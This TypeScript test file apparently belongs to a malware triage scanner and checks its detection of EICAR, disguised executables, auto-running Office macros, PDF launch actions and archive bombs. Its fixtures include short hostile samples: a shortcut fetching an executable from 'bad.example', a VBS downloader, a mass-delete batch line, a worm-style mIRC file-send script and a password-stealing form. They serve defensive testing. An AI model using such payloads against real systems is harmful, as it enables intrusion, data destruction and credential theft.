import { gzipSync } from 'node:zlib';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { EICAR } from './eicar.ts';
import { indicatorsOf, judgeReport } from './judge.ts';
import { isoOf, nestedGzip, nestedZip, rarOf, tarOf, zipOf } from './testing/archives.ts';
import { elfOf, lnkOf, officeParts, oleOf, peOf, vbaModule } from './testing/programs.ts';
import { triageBytes } from './triage.ts';
import type { FileReport } from './types.ts';

const look = (bytes: Uint8Array | string, name = 'file', type?: string): Promise<FileReport> =>
  triageBytes(
    typeof bytes === 'string' ? Buffer.from(bytes, 'latin1') : bytes,
    { name, type },
    { nowMs: () => performance.now() },
  );
const says = ({ findings }: FileReport): string => findings.map((finding) => finding.says).join('; ');

const JPEG = Buffer.from('ffd8ffe000104a46494600010100000100010000ffd9', 'hex');
const PNG = Buffer.from('89504e470d0a1a0a0000000d4948445200000001000000010806000000', 'hex');

describe('the EICAR test file', () => {
  const zipped = zipOf([{ name: 'eicar.com', content: EICAR }]);
  it.each([
    ['as it is', EICAR],
    ['with blanks behind it', Buffer.concat([EICAR, Buffer.from('\r\n \t\x1a')])],
    ['with other bytes behind it', Buffer.concat([EICAR, Buffer.alloc(5000, 7)])],
    ['behind a mark of UTF-8', Buffer.concat([Buffer.from('efbbbf', 'hex'), EICAR])],
    ['in UTF-16', Buffer.from(`\ufeff${EICAR.toString('latin1')}`, 'utf16le')],
    ['zipped', zipped],
    ['zipped twice', zipOf([{ name: 'eicar_com.zip', content: zipped, stored: true }])],
    [
      'zipped twice, with bytes behind',
      Buffer.concat([zipOf([{ name: 'a.zip', content: zipped }]), Buffer.alloc(100_000, 9)]),
    ],
    ['in a tar file in a gzip file', gzipSync(tarOf([{ name: 'e', content: EICAR }]))],
    ['in a RAR archive', rarOf([{ name: 'eicar.com', content: EICAR }])],
    ['in a disk image', isoOf([{ name: 'EICAR.COM', content: EICAR }])],
  ])('is known %s', async (_how, bytes) => {
    const report = await look(bytes, 'sample');
    expect(judgeReport(report)).toMatchObject({ class: 'malware', severity: 'high', unambiguousHarm: true });
    expect(says(report)).toContain('EICAR test file');
  });
});

describe('names against content', () => {
  it.each([
    [
      'a program called a picture',
      peOf(),
      'holiday.jpg',
      undefined,
      'worm',
      'a program behind the name of a .jpg file',
    ],
    ['a program offered as a picture', peOf(), 'x', 'image/png', 'worm', 'a program offered as image'],
    ['a double ending', peOf(), 'photo.jpg.scr', undefined, 'worm', 'executable .scr behind'],
    ['a name that reads backwards', peOf(), 'invoice_\u202efdp.exe', undefined, 'worm', 'direction controls'],
    ['a lure ending', 'MZ', 'game.pif', undefined, 'worm', '.pif runs when opened'],
    ['a script called a picture', '@echo off\r\ndel *.*', 'me.gif', undefined, 'worm', 'a script behind'],
    [
      'a program in a zip file',
      zipOf([{ name: 'pic.jpg.scr', content: peOf() }]),
      'pics.zip',
      undefined,
      'worm',
      'in it: executable .scr',
    ],
    [
      'an encrypted program in a zip file',
      zipOf([{ name: 'a.jpg.exe', content: Buffer.from('x'), encrypted: true }]),
      'a.zip',
      undefined,
      'worm',
      'in it: executable .exe',
    ],
    ['a plain program', elfOf(2), 'tool', undefined, 'malware', 'it is a program'],
  ] as const)('%s', async (_what, bytes, name, type, verdict, reason) => {
    const report = await look(bytes, name, type);
    expect(judgeReport(report)?.class).toBe(verdict);
    expect(says(report)).toContain(reason);
  });

  it.each([
    ['a picture', JPEG, 'holiday.jpg', 'image/jpeg'],
    ['a picture by another picture ending', PNG, 'holiday.jpg', 'image/jpeg'],
    ['notes', 'see you at nine\n', 'notes.txt', 'text/plain'],
    ['zipped notes', zipOf([{ name: 'notes.txt', content: Buffer.from('nine') }]), 'notes.zip', undefined],
    ['packed notes', gzipSync('nine'), 'notes.txt.gz', undefined],
    ['a document', zipOf(officeParts('word')), 'letter.docx', undefined],
    ['a page', '<html><body>hello</body></html>', 'page.html', 'text/html'],
    ['nothing', '', 'empty.txt', undefined],
  ] as const)('%s is nothing', async (_what, bytes, name, type) => {
    expect(judgeReport(await look(bytes, name, type))).toBeUndefined();
  });
});

describe('facts', () => {
  it('programs: machine, imports by name and number, import hash, abilities, signature', async () => {
    const imports = [
      { library: 'KERNEL32.dll', functions: ['CreateProcessA', 'WinExec'] },
      { library: 'WS2_32.dll', functions: [1, 23, 'WSAStartup'] },
      { library: 'urlmon.dll', functions: ['URLDownloadToFileA'] },
    ];
    for (const wide of [false, true]) {
      const report = await look(peOf({ imports, wide, signed: true }), 'a.exe');
      expect(report.facts).toMatchObject({
        machine: wide ? 'x64' : 'x86',
        signed: true,
        builtAt: '2004-11-09T11:33:20.000Z',
      });
      expect(report.facts.imports).toEqual(['KERNEL32.dll (2)', 'WS2_32.dll (3)', 'urlmon.dll (1)']);
      // MD5 of kernel32.createprocessa,kernel32.winexec,ws2_32.accept,ws2_32.socket,ws2_32.wsastartup,urlmon.urldownloadtofilea
      expect(report.imphash).toBe('d35d27ac115ffaeb50c152019f068836');
      expect(says(report)).toContain('downloads and starts others');
    }
  });

  it('packed programs are told', async () => {
    expect(says(await look(peOf({ sectionName: 'UPX0' }), 'a.exe'))).toContain('named as by a packer');
  });

  it('Office: macros that run by themselves, and templates from elsewhere', async () => {
    const vba = oleOf({
      VBA: Buffer.alloc(8),
      _VBA_PROJECT: Buffer.alloc(8),
      M: vbaModule('Sub AutoOpen()\r\nCreateObject("WScript.Shell").Run "calc"\r\nEnd Sub'),
    });
    const old = await look(
      oleOf({ WordDocument: Buffer.alloc(8), VBA: Buffer.alloc(8), M: vbaModule('Sub Document_Open()\r\nEnd Sub') }),
      'a.doc',
    );
    expect(old.type.mime).toBe('application/msword');
    expect(says(old)).toContain('macros run when it is opened');
    const parts = officeParts('word', { 'word/vbaProject.bin': vba.toString('latin1') });
    const report = await look(zipOf(parts), 'a.docm');
    expect(report.type.mime).toContain('wordprocessingml');
    expect(says(report)).toContain('macros run when it is opened');
    const rels =
      '<Relationships><Relationship Type="http://x/attachedTemplate" Target="http://bad.example/t.dotm" TargetMode="External"/></Relationships>';
    const away = await look(zipOf(officeParts('word', { 'word/_rels/settings.xml.rels': rels })), 'b.docx');
    expect(judgeReport(away)).toMatchObject({ class: 'exploit', severity: 'high' });
  });

  it('PDF: what runs when it is opened, also behind escapes', async () => {
    for (const name of ['/JavaScript', '/J#61vaScript']) {
      const pdf = `%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S${name}/JS(app.alert(1))>>>>endobj\n`;
      expect(says(await look(pdf, 'a.pdf'))).toContain('script runs when it is opened');
    }
    expect(says(await look('%PDF-1.4\n1 0 obj<</S/Launch/F(cmd.exe)>>endobj\n', 'a.pdf'))).toContain(
      'starts a program',
    );
  });

  it('shortcuts: what they start', async () => {
    const report = await look(
      lnkOf('..\\windows\\system32\\cmd.exe', '/c start http://bad.example/a.exe'),
      'photos.lnk',
    );
    expect(report.facts).toMatchObject({
      relativePath: '..\\windows\\system32\\cmd.exe',
      arguments: '/c start http://bad.example/a.exe',
    });
    expect(judgeReport(report)?.unambiguousHarm).toBe(true);
    expect(indicatorsOf(report)).toContainEqual({
      type: 'domain',
      value: 'bad.example',
      seen: 'http://bad.example/a.exe',
    });
  });

  it.each([
    [
      'a downloader',
      'Set x = CreateObject("MSXML2.XMLHTTP")\r\nSet s = CreateObject("WScript.Shell")\r\ns.Run "a.exe"',
      'a.vbs',
      'downloads something and runs it',
    ],
    ['an encoded command', `powershell -enc ${'QUFB'.repeat(20)}`, 'a.bat', 'hides what it does'],
    [
      'a script of mIRC',
      '[script]\nn0=on 1:JOIN:#:{ /dcc send $nick c:\\a.exe }\n',
      'script.ini',
      'sends messages or files to contacts',
    ],
    [
      'a page that asks for a password',
      '<html><form action="http://bad.example/p"><input type=password></form></html>',
      'login.html',
      'asks for a password',
    ],
    [
      'a page that is a program',
      '<html><hta:application id=a><script>new ActiveXObject("WScript.Shell")</script></html>',
      'a.hta',
      'runs as a program',
    ],
  ])('%s', async (_what, text, name, reason) => {
    expect(says(await look(text, name))).toContain(reason);
  });

  it('links within are indicators, and names of schemas are not', async () => {
    const report = await look(
      zipOf([...officeParts('word'), { name: 'a.txt', content: Buffer.from('see http://bad.example/x.') }]),
      'a.docx',
    );
    expect(report.links).toEqual(['http://bad.example/x']);
  });
});

describe('bombs', () => {
  it.each([
    ['zip files in zip files', nestedZip(6, 4, 1_000_000), 'deeper than'],
    ['gzip files in gzip files', nestedGzip(12, Buffer.from('x')), 'deeper than'],
    ['many zip files in zip files', nestedZip(3, 60, 100), 'more entries than'],
  ])('%s are contained', async (_what, bytes, reason) => {
    const report = await look(bytes, 'a');
    expect(says(report)).toContain(reason);
    expect(JSON.stringify(report).length).toBeLessThan(2_000_000);
  });
});

describe('any bytes', () => {
  const starts = [
    '',
    'MZ',
    'PK\x03\x04',
    'PK\x05\x06',
    '%PDF-1.5\n',
    '\x7fELF\x02\x01',
    'L\0\0\0\x01\x14\x02\0',
    '{\\rtf1',
    '<html><script>',
    'Rar!\x1a\x07\x01\0',
    '7z\xbc\xaf\x27\x1c\0\x04',
    '\x1f\x8b\x08\0',
    'BZh9',
    '\xfd7zXZ\0',
    '\xca\xfe\xba\xbe',
    'MSCF\0\0\0\0',
    '!<arch>\n',
    'ITSF',
  ];
  it('are taken, whatever they begin with', async () => {
    const input = fc.tuple(fc.constantFrom(...starts), fc.uint8Array({ maxLength: 600 }));
    await fc.assert(
      fc.asyncProperty(input, async ([start, rest]) => {
        const report = await look(Buffer.concat([Buffer.from(start, 'latin1'), rest]), 'a.bin');
        expect(report.sha256).toHaveLength(64);
      }),
      { numRuns: 400 },
    );
  });

  it.each([
    ['a program', peOf({ imports: [{ library: 'a.dll', functions: ['b', 3] }] })],
    ['a compound file', oleOf({ WordDocument: Buffer.alloc(8), VBA: Buffer.alloc(8), M: vbaModule('Sub AutoOpen()') })],
    ['a shortcut', lnkOf('a', 'b')],
    ['an ELF program', elfOf(3)],
  ])('%s may be cut anywhere or changed anywhere', async (_what, bytes) => {
    for (let length = 0; length < bytes.length; length += Math.max(1, Math.floor(bytes.length / 100)))
      await look(bytes.subarray(0, length));
    const change = fc.array(fc.tuple(fc.nat(Math.min(bytes.length, 2048) - 1), fc.nat(255)), {
      minLength: 1,
      maxLength: 12,
    });
    await fc.assert(
      fc.asyncProperty(change, async (places) => {
        const changed = Buffer.from(bytes);
        for (const [at, value] of places) changed[at] = value;
        await look(changed);
      }),
      { numRuns: 200 },
    );
  });
});
